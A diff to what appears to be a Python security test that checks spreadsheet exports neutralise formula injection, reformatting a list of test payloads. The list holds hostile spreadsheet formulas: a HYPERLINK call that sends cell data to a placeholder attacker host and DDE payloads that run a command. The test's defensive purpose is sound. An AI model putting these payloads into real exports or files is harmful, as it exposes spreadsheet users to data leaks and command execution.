@@ -14,8 +14,14 @@ from almo_sla.exports import neutralise
 from reporting.models import Departure, StandardResult
 from tests.security.helpers import env_draft_return
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_asvs_v1_2_10_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
